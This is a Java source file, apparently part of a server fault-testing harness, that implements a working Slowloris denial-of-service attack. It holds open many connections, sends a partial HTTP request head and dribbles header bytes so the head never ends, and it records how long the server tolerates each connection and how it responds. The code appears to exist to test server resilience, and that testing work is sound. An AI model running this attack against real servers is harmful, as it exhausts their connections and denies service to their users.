package dev.prefork.faults.scenario;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import dev.prefork.faults.load.LatencyHistogram;

/**
 * Slowloris: many connections that start a request head and then dribble it, one header byte at
 * a time, never finishing it. Runs on one thread with a selector; records, per connection, how
 * long the server let it live from its first byte, and what (if anything) it answered.
 */
final class SlowlorisAttack {

	private static final byte[] HEAD_START = "GET /hello HTTP/1.1\r\nHost: 127.0.0.1\r\n"
		.getBytes(StandardCharsets.US_ASCII);

	/** Dribbled forever: header lines that never end the head (no empty line). */
	private static final byte[] DRIBBLE = "X-Slow: a\r\n".getBytes(StandardCharsets.US_ASCII);

	private final InetSocketAddress target;

	private final int connections;

	private final Duration dribbleInterval;

	private final LatencyHistogram lifetimes = new LatencyHistogram();

	private final Map<String, Integer> answers = new TreeMap<>();

	private int opened;

	private int connectFailures;

	private int peakOpen;

	private int stillOpenAtEnd;

	private double oldestAtEndMillis;

	SlowlorisAttack(InetSocketAddress target, int connections, Duration dribbleInterval) {
		this.target = target;
		this.connections = connections;
		this.dribbleInterval = dribbleInterval;
	}

	/**
	 * Keeps {@code connections} connections dribbling for {@code duration}; with {@code reopen}
	 * every connection the server drops is replaced at once, otherwise the attack ends early when
	 * the server has dropped them all.
	 */
	void run(Duration duration, boolean reopen) throws IOException {
		long deadline = System.nanoTime() + duration.toNanos();
		try (Selector selector = Selector.open()) {
			List<Slow> open = new ArrayList<>();
			for (int i = 0; i < this.connections; i++) {
				connect(selector, open);
			}
			long nextDribble = System.nanoTime() + this.dribbleInterval.toNanos();
			while (System.nanoTime() < deadline && !open.isEmpty()) {
				selector.select(20);
				for (SelectionKey key : selector.selectedKeys()) {
					handle(key, open);
				}
				selector.selectedKeys().clear();
				if (System.nanoTime() >= nextDribble) {
					nextDribble += this.dribbleInterval.toNanos();
					for (Slow slow : List.copyOf(open)) {
						slow.dribble(open);
					}
				}
				this.peakOpen = Math.max(this.peakOpen, open.size());
				while (reopen && open.size() < this.connections && System.nanoTime() < deadline) {
					connect(selector, open);
				}
			}
			this.stillOpenAtEnd = open.size();
			long now = System.nanoTime();
			for (Slow slow : open) {
				if (slow.firstByteNanos != 0) {
					this.oldestAtEndMillis = Math.max(this.oldestAtEndMillis, (now - slow.firstByteNanos) / 1e6);
				}
				slow.channel.close();
			}
		}
	}

	private void connect(Selector selector, List<Slow> open) {
		try {
			SocketChannel channel = SocketChannel.open();
			channel.configureBlocking(false);
			channel.connect(this.target);
			Slow slow = new Slow(channel);
			channel.register(selector, SelectionKey.OP_CONNECT, slow);
			open.add(slow);
			this.opened++;
		}
		catch (IOException ex) {
			this.connectFailures++;
		}
	}

	private void handle(SelectionKey key, List<Slow> open) {
		Slow slow = (Slow) key.attachment();
		try {
			if (key.isConnectable()) {
				slow.channel.finishConnect();
				slow.start();
				key.interestOps(SelectionKey.OP_READ);
			}
			else if (key.isReadable()) {
				slow.read(open);
			}
		}
		catch (IOException ex) {
			if (slow.firstByteNanos == 0) {
				this.connectFailures++;
				open.remove(slow);
				closeQuietly(slow.channel);
			}
			else {
				slow.closedByServer(open, "reset");
			}
		}
	}

	/** Connections the server let live longer than this after their first byte. */
	LatencyHistogram lifetimes() {
		return this.lifetimes;
	}

	/** What dropped connections got: {@code 408}, another status, or a plain close or reset. */
	Map<String, Integer> answers() {
		return this.answers;
	}

	int opened() {
		return this.opened;
	}

	int connectFailures() {
		return this.connectFailures;
	}

	int peakOpen() {
		return this.peakOpen;
	}

	int stillOpenAtEnd() {
		return this.stillOpenAtEnd;
	}

	/** Age (since its first byte) of the oldest connection still open when the attack ended. */
	double oldestAtEndMillis() {
		return this.oldestAtEndMillis;
	}

	private static void closeQuietly(SocketChannel channel) {
		try {
			channel.close();
		}
		catch (IOException ex) {
			// Already gone.
		}
	}

	/** One dribbling connection. */
	private final class Slow {

		private final SocketChannel channel;

		private final ByteBuffer received = ByteBuffer.allocate(256);

		private long firstByteNanos;

		private int dribbled;

		Slow(SocketChannel channel) {
			this.channel = channel;
		}

		void start() throws IOException {
			this.firstByteNanos = System.nanoTime();
			this.channel.write(ByteBuffer.wrap(HEAD_START));
		}

		void dribble(List<Slow> open) {
			if (this.firstByteNanos == 0) {
				return; // still connecting
			}
			try {
				this.channel.write(ByteBuffer.wrap(DRIBBLE, this.dribbled++ % DRIBBLE.length, 1));
			}
			catch (IOException ex) {
				closedByServer(open, "reset");
			}
		}

		void read(List<Slow> open) throws IOException {
			int read = this.channel.read(this.received.hasRemaining() ? this.received : ByteBuffer.allocate(256));
			if (read < 0) {
				closedByServer(open, null);
			}
		}

		void closedByServer(List<Slow> open, String failure) {
			if (!open.remove(this)) {
				return;
			}
			SlowlorisAttack.this.lifetimes.record(System.nanoTime() - this.firstByteNanos);
			String answer = new String(this.received.array(), 0, this.received.position(), StandardCharsets.ISO_8859_1);
			String outcome = answer.startsWith("HTTP/1.") && answer.length() >= 12 ? "status " + answer.substring(9, 12)
					: (failure != null) ? failure : (answer.isEmpty() ? "closed without answer" : "garbage");
			SlowlorisAttack.this.answers.merge(outcome, 1, Integer::sum);
			closeQuietly(this.channel);
		}

	}

}
